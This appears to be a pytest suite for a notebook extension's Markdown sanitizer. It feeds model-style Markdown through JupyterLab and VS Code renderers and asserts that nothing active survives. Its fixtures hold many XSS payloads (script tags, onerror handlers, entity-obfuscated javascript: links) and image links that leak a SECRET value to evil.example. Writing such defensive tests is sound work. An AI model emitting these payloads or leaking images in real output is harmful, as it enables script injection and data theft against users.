"""Model Markdown is made safe structurally: rebuilt from its tokens, vetted by nh3, and checked as the frontends render it.

The frontends' renderers run in node (tests/js/render.mjs): JupyterLab 4.6 / Notebook 7.6's pipeline (math lifted
out, marked 16 with JupyterLab's plugins, math put back) and VS Code's markdown-it, each HTML string parsed by
parse5 and checked for any element, attribute or URL that Markdown does not render legitimately.
"""

import json, random, re, subprocess, time
from pathlib import Path
import pytest
from hypothesis import given, settings, strategies as st
from markdown_corpus import ATOMS, CONTROLS, SEPARATORS, documents
from boopiter_ext.render import sanitize
from boopiter_ext.render.sanitize import SafeStream, safe_markdown, vet_url

JS = Path(__file__).parent/'js'


@pytest.fixture(scope='session')
def frontends():
    "render(docs) -> one {'lab': problems, 'vscode': problems} per doc, rendered by the frontends' own libraries."
    if not (JS/'node_modules'/'marked').is_dir():
        subprocess.run(['npm', 'ci', '--no-audit', '--no-fund'], cwd=JS, check=True, capture_output=True)
    def render(docs):
        out = subprocess.run(['node', str(JS/'render.mjs')], input=json.dumps(docs), capture_output=True, text=True,
                             check=True, timeout=600)
        return json.loads(out.stdout)
    return render


def problems(results, docs, safe):
    return [dict(doc=d, safe=s, **r) for d,s,r in zip(docs, safe, results) if r['lab'] or r['vscode']]


FIXED = {
    'raw tags': 'a <script>x()</script> <img src=x onerror=y()> <svg/onload=z()>',
    'escaped backtick opens no code span': 'Note: \\`<img src=x onerror=alert(1)>`',
    'code span across a blank line': 'a ` b\n\n<img src=x onerror=alert(2)>\n\nc `',
    'fence info with a backtick': '``` x`\n<img src=x onerror=alert(3)>\n```',
    'fence in a list item, then a lazy line': '- item\n  ```\n<img src=x onerror=alert(4)>\n  ```',
    'html block': '<details><summary>s</summary>\n\n<script>x()</script>\n</details>',
    'comment': '<!-- hidden --> text',
    'reference image': '![leak][r]\n\n[r]: https://evil.example/p.png?q=SECRET',
    'image with a quoted title': "![leak](https://evil.example/p.png?q=SECRET 'x')",
    'image with escaped slashes': '![leak](https:\\/\\/evil.example/p.png?q=SECRET)',
    'image with an entity colon': '![leak](https&#58;//evil.example/p.png?q=SECRET)',
    'protocol-relative image': '![x](//evil.example/a.png)',
    'reference javascript link': '[click][j]\n\n[j]: javascript:alert(5)',
    'entity javascript link': '[click](javascript&#58;alert(6))',
    'entity scheme letter': '[click](&#x6A;avascript:alert(6))',
    'mixed-case javascript link': '[x](JaVaScRiPt:alert(1))',
    'autolink javascript': '<javascript:alert(1)>',
    'table cell': '| a | b |\n|---|---|\n| <img src=x onerror=1> | `<b>` |',
    'tag whose attribute holds backticks': '<img src="`" onerror=alert(1) x="`">',
    'code span beside a tag': '`<b>` <img src=x onerror=1> `<i>`',
    'unclosed code span': '`unclosed <img src=x onerror=1>',
    # the classes issue 12 found: a line break to Python that is none to CommonMark shifted the defuser's line map
    **{f'fence then raw html after {sep!r}': f'```\ncode{sep}```\n{sep}<img src=x onerror=alert(7)>{sep}<script>x()</script>'
       for sep in ['\x0b', '\x0c', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029']},
    'destination nested past the parser limit': '[x](' + '(' * 40 + 'javascript:alert(8)' + ')' * 40 + ')',
    'destination nested just past 32': '[x](' + '(' * 33 + 'javascript:alert(8)' + ')' * 33 + ')',
    'reference label with an escaped bracket': '[a\\]b]\n\n[a\\]b]: javascript:alert(9)',
    'reference label with an escaped backslash': '[a\\\\]\n\n[a\\\\]: javascript:alert(9)',
    # found while building this: marked's autolink swallows the backslash of `\<`, and unescapes `\[` in link text
    'autolink before an escaped tag': 'ftp://x<table background=javascript:x>',
    'short www before an escaped tag': 'www.a<img src=x onerror=alert(10)>',
    'image inside a link label': '[![x](http://evil.example/p.png)](http://example.com)',
    'escaped image in a link label': '[![x\\](http://evil.example/p.png)](http://example.com)',
    'math hiding a tag': '$$<img src=x onerror=1>$$ and $x<y$ and \\(<script>\\)',
    'math hiding a link': '$](javascript:alert(1))$',
    # found by tests/test_properties.py: marked leaves `&#x61` (no `;`, so CommonMark left it) in an href or a src,
    # and the browser decodes it there
    'reference without its semicolon': '[x](j&#x61vascript:alert(1))',
    'decimal reference without its semicolon': 'a [x](j&#97vascript:alert(1)) b',
    'remote image behind a reference without its semicolon': '![x](&#47/evil.example/p.png?q=SECRET)',
    'reference behind an escaped ampersand': '[x](javascript\\&colon;alert(1))',
    'reference behind an encoded ampersand': '[x](javascript&amp;#58;alert(1))',
}


def test_fixed_attacks_render_nothing_active_in_lab_or_vscode(frontends):
    docs = list(FIXED.values())
    safe = [safe_markdown(d) for d in docs]
    assert problems(frontends(safe), docs, safe) == []
    raw = frontends(docs)   # the same texts as a model wrote them: the checker sees what they would do
    assert sum(bool(r["lab"] or r["vscode"]) for r in raw) >= 0.6 * len(docs)


def test_a_generated_corpus_renders_nothing_active(frontends):
    docs = documents(4000, seed=12)
    safe = [safe_markdown(d) for d in docs]
    assert problems(frontends(safe), docs, safe)[:3] == []
    assert sum(bool(r['lab'] or r['vscode']) for r in frontends(docs)) > 2000   # the corpus is hostile


def test_every_streaming_update_is_safe(frontends):
    rng, docs, safe = random.Random(5), documents(150, seed=99), []
    for d in docs:
        stream, cuts = SafeStream(), sorted(rng.sample(range(len(d) + 1), min(len(d) + 1, 6)))
        safe += [stream(d[:c]) for c in cuts]
    docs = [d for d in docs for _ in range(6)][:len(safe)]
    assert problems(frontends(safe), docs, safe)[:3] == []


def rendered(md_text):
    from markdown_it import MarkdownIt
    md = MarkdownIt('commonmark', {'html': True}).enable(['table', 'strikethrough'])
    md.validateLink = lambda url: True
    return md.render(md_text)


def test_ordinary_markdown_keeps_its_meaning():
    text = ('Use `a < b` and **bold**, a [link](https://example.com) and ![plot](plot.png).\n\n'
            '```html\n<b>kept exactly</b>\n```\n\n1. step\n\n   ```python\n   if a < b: pass\n   ```\n\n'
            '| col | n |\n|:--|--:|\n| x | 1 |\n\n> quoted *text*\n\n- [ ] task\n- ~~done~~\n')
    html = rendered(safe_markdown(text))
    assert '<code>a &lt; b</code>' in html and '<strong>bold</strong>' in html
    assert '<a href="https://example.com">link</a>' in html and '<img src="plot.png" alt="plot"' in html
    assert '<code class="language-html">&lt;b&gt;kept exactly&lt;/b&gt;\n</code>' in html
    assert '<code class="language-python">if a &lt; b: pass\n</code>' in html
    assert '<th style="text-align:left">col</th>' in html and '<td style="text-align:right">1</td>' in html
    assert '<blockquote>\n<p>quoted <em>text</em></p>' in html and '<s>done</s>' in html


def test_math_becomes_dollars_and_money_stays_money():
    out = safe_markdown('Area \\(\\pi r^2\\) and\n\\[\nE = mc^2\n\\]\ncosts $5, not $10; $x<y$, `\\(x\\)`\n\n'
                        '```python\nprint("\\(x\\)")\n```\n')
    assert 'Area $\\pi r^2$ and\n$$E = mc^2$$' in out and '\\$5' in out and '\\$10' in out
    assert '$x\\lt y$' in out                                    # no `<` in math: nothing can read a tag there
    assert '`\\(x\\)`' in out and 'print("\\(x\\)")' in out      # code is left as written
    for prose in [r'Press \[Enter\] to go on', r'- \[ \] todo', r'C:\\[x] and \] back', r'\\(not math\\)']:
        assert not re.search(r'(?<!\\)\$', safe_markdown(prose)), prose


def test_headings_leave_the_table_of_contents_alone():
    out = safe_markdown('# Title\n\nSetext\n======\n\n## With *emphasis*\n')
    assert out == '**Title**\n\n**Setext**\n\nWith *emphasis*'
    assert '<h' not in rendered(out)


def test_remote_images_become_links_and_bad_links_text():
    out = safe_markdown('![chart](https://evil.example/c.png?q=SECRET) [x](javascript:alert(1)) [y](vbscript:x) '
                        '[z](data:text/html,x) [ok](mailto:a@b.c)')
    html = rendered(out)
    assert '<img' not in html and '<a href="https://evil.example/c.png?q=SECRET">🖼 chart</a>' in html
    assert 'javascript' not in html and 'vbscript' not in html and 'data:' not in html
    assert '<a href="mailto:a@b.c">ok</a>' in html


@pytest.mark.parametrize('url,image,ok', [
    ('https://x.com/a?b=1&c=2', False, True), ('http://x', False, True), ('mailto:a@b.c', False, True),
    ('plot.png', True, True), ('sub/dir/p.png', True, True), ('https://x.com/p.png', True, False),
    ('//evil/p.png', True, False), ('javascript:alert(1)', False, False), (' javascript:x', False, False),
    ('java\tscript:x', False, False), ('\x01javascript:x', False, False), ('vbscript:x', False, False),
    ('data:text/html,x', False, False), ('data:image/png;base64,AAAA', True, False), ('file:///etc/passwd', False, False),
    ('https:\\\\evil', False, False)])
def test_vet_url(url, image, ok):
    assert (vet_url(url, image) is not None) == ok


def test_a_destination_a_browser_would_decode_is_read_as_decoded():
    "CommonMark decodes `&#x61;` only with its `;`; a browser reading an attribute decodes `&#x61` as well."
    assert vet_url('j&#x61vascript:alert(1)') is None and vet_url('j&#97vascript:alert(1)') is None
    assert vet_url('&#47/evil.example/p.png', image=True) is None
    assert vet_url('javascript&colon;alert(1)') is None   # from `\&colon;` or `&amp;colon;`: marked keeps the `&`
    assert vet_url('https://x.com/?a=1&copy=2') == 'https://x.com/?a=1\\&copy=2'   # a query keeps its `&`


def test_a_destination_a_parser_would_decode_is_escaped():
    assert vet_url('a&#x6A;b') == 'a\\&#x6A;b'          # the entity stays text: never `javascript:` on re-reading
    assert vet_url('p q<r>.png', True) == 'p%20q%3Cr%3E.png'


def test_when_nh3_would_remove_anything_the_reply_is_plain_text(monkeypatch, caplog):
    monkeypatch.setattr(sanitize, '_rebuild', lambda *a: '<img src=x onerror=alert(1)>')
    out = safe_markdown('anything <b>at all</b>')
    assert out == '```\nanything <b>at all</b>\n```' and 'allow-list' in caplog.text


def test_a_link_nh3_refuses_costs_only_that_link(caplog):
    out = safe_markdown('see [site](http://exa\u200bmple.com) and **bold**')   # a host nh3 will not parse
    assert '**bold**' in out and 'site' in out and '](' not in out and not caplog.text


def test_stream_keeps_finished_blocks_and_rebuilds_only_the_last():
    calls = []
    real = sanitize.safe_markdown
    def counting(text, *a):
        calls.append(len(text))
        return real(text, *a)
    stream = SafeStream()
    text = ''.join(f'Paragraph {i} with <b>tags</b> and `code`.\n\n' for i in range(200))
    sanitize.safe_markdown, outs = counting, []
    try:
        for end in [*range(0, len(text), 97), len(text)]: outs.append(stream(text[:end]))
    finally: sanitize.safe_markdown = real
    assert outs[-1].count('Paragraph') == 200
    assert max(calls) < 400                           # never the whole text again: each block once, plus the tail
    assert sum(calls) < 3 * len(text)
    assert safe_markdown(text).split('\n\n')[:150] == outs[-1].split('\n\n')[:150]


HOSTILE = st.lists(st.one_of(st.sampled_from(ATOMS), st.sampled_from(SEPARATORS + CONTROLS),
                             st.text(alphabet=st.characters(codec='utf-8'), max_size=8)), max_size=25).map(''.join)


def assert_inert(out):
    "`out` passes nh3's allow-list and renders no tag, script URL or remote image that Markdown does not make."
    assert sanitize._render_check(out)
    html = rendered(out)
    assert not re.search(r'<(?!/?(p|em|strong|code|pre|a|img|ul|ol|li|blockquote|hr|br|table|thead|tbody|tr|th|td|s)\b)',
                         html), html
    assert not re.search(r'(?i)\b(href|src)="\s*(javascript|vbscript|data|file):', html)
    assert not re.search(r'<img src="(https?:)?//', html)


@settings(max_examples=400, deadline=None)
@given(HOSTILE)
def test_whatever_a_model_writes_passes_the_allow_list(text):
    assert_inert(safe_markdown(text))


@pytest.mark.slow
def test_every_markdown_a_kernel_sends_is_safe_streamed_reused_and_dead_drop(kernel, srv, frontends):
    import threading
    from boopiter_ext.models import deaddrop as dd
    hostile = '\n\n'.join(FIXED.values())
    def markdowns(res): return [m[2]['data']['text/markdown'] for m in res.messages
                                if m[1] in ('display_data', 'update_display_data') and 'text/markdown' in m[2]['data']]
    srv.script(hostile, delay=0.001)
    streamed = kernel.run('%%prompt -m qwen3:1.7b\nq', cell_id='c1')
    reused = kernel.run('%%prompt -m qwen3:1.7b\nq', cell_id='c1')
    assert reused.reply['metadata']['boopiter'].get('reused') and streamed.reply['data']['text/plain'] == hostile
    root = dd.deaddrop_root()
    dd.new_session(root, 'hostile')
    def respond():
        p = dd.await_prompt(root, 'hostile', timeout=30)
        dd.reply_stream(root, 'hostile', p['id'], [hostile[i:i+500] for i in range(0, len(hostile), 500)], model='x')
    threading.Thread(target=respond, daemon=True).start()
    dropped = kernel.run('%%prompt -m deaddrop/hostile\nq', cell_id='c2')
    assert dropped.status == 'ok' and dropped.reply['data']['text/plain'] == hostile
    docs = markdowns(streamed) + markdowns(reused) + markdowns(dropped)
    assert len(markdowns(streamed)) > 3 and markdowns(reused) and markdowns(dropped)
    found = problems(frontends(docs), docs, docs)
    assert not found, [(f['lab'], f['vscode']) for f in found[:2]]


def test_everything_else_a_reply_shows_is_safe_too(frontends):
    "Tool rounds, the loop's summary, notes, warnings and model names set among our own Markdown: the same checks."
    from boopiter_ext.render.reply import loop_bundle, reply_markdown, round_bundle
    from boopiter_ext.models.stream import Reply
    from boopiter_ext.tools.loop import LoopResult, Step
    from boopiter_ext.faces.view import KernelView
    docs = documents(60, seed=3)
    out = []
    for i in range(0, len(docs) - 3, 3):
        steps = [Step(1, docs[i], 'ok', docs[i+1]), Step(1, docs[i+2], 'crashed: ' + docs[i+1][:20], docs[i])]
        out += [round_bundle(1, steps)[0]['text/markdown'], loop_bundle(LoopResult('max rounds', steps, 1))[0]['text/markdown']]
        r = Reply(docs[i][:40])
        r.add_thinking(docs[i+2])
        r.add_content(docs[i+1])
        r.note = docs[i+2]
        r.finish('interrupted')
        out.append(reply_markdown(r, dict(name=docs[i][:10], endpoint=docs[i+1][:30], note=docs[i+2]),
                                  dict(items=[dict(label=docs[i][:30], tokens=1, status='sent')], tokens=1, window=2,
                                       warning=docs[i+1], image_records=[])))
        shown = []
        class Pub:
            def publish(self, data, md, **kw): shown.append(data['text/markdown'])
        view = KernelView(type('Shell', (), dict(display_pub=Pub()))(), {}, dict(window=1, items=[], tokens=1))
        view.waiting(docs[i][:50], docs[i+2])
        view.final(Reply(docs[i+1][:50]))
        out += shown
    found = problems(frontends(out), out, out)
    assert not found, [(f["lab"][:-1], f["vscode"][:-1]) for f in found[:2]]


def test_a_lone_surrogate_is_shown_as_a_replacement_character():
    "A JSON `\\ud800` escape in a streamed reply made nh3 raise UnicodeEncodeError: no UTF-8 writer encodes it."
    assert safe_markdown('a\ud800b **c\udfff**') == 'a\ufffdb **c\ufffd**'
    assert SafeStream()('x\ud83d') == 'x\ufffd'


def _quadratic(opener, n):
    "n block quotes, each holding a block that takes no lazy lines and followed by a line outside: markdown-it rescans."
    return (opener + 'x\n') * n


@pytest.mark.parametrize('opener', ['> # h\n', '> ```python\n', '> <div>\n', '>     code\n', '> | a |\n> |---|\n', '> >\n',
                                    '>> > ~~~\n'])
def test_a_reply_whose_layout_would_take_quadratic_time_costs_linear_time(opener):
    def cost(n):   # the best of three: a shared machine's noise only ever adds
        text = _quadratic(opener, n)
        return min(_timed(lambda: safe_markdown(text)) for _ in range(3)), text
    (small, _), (big, text) = cost(500), cost(4000)
    assert big / small < 8 * 2.5   # 8x the text; markdown-it alone would take ~64x
    out = safe_markdown(text)
    assert out.startswith('```') and text.rstrip('\n') in out   # shown, all of it, as plain text


def _timed(fn):
    t = time.perf_counter(); fn(); return time.perf_counter() - t


def test_ordinary_block_quotes_keep_their_layout():
    mail = '\n'.join(f'> line {i} of a quoted mail' if i % 7 else f'> > {i}: an older message' for i in range(1, 400))
    notes = '\n\n'.join(f'> **Note {i}.** quoted\nlazy continuation\n\n- a list\n- under it' for i in range(200))
    for text in (mail, notes, _quadratic('> # h\n', 100)):
        out = safe_markdown(text)
        assert not out.startswith('```') and out.count('>') >= text.count('\n> ') // 2


def test_a_stream_of_such_a_reply_costs_the_same_per_update_however_long_it_grows():
    text, stream = _quadratic('> # h\n', 6000), SafeStream()
    steps = [_timed(lambda: stream(text[:len(text) * i // 40])) for i in range(1, 41)]
    whole = _timed(lambda: safe_markdown(_quadratic('> # h\n', 150)))   # one update's worth, laid out at once
    assert sorted(steps)[len(steps) // 2] < 40 * max(whole, 1e-3)   # median update: no growth with the reply
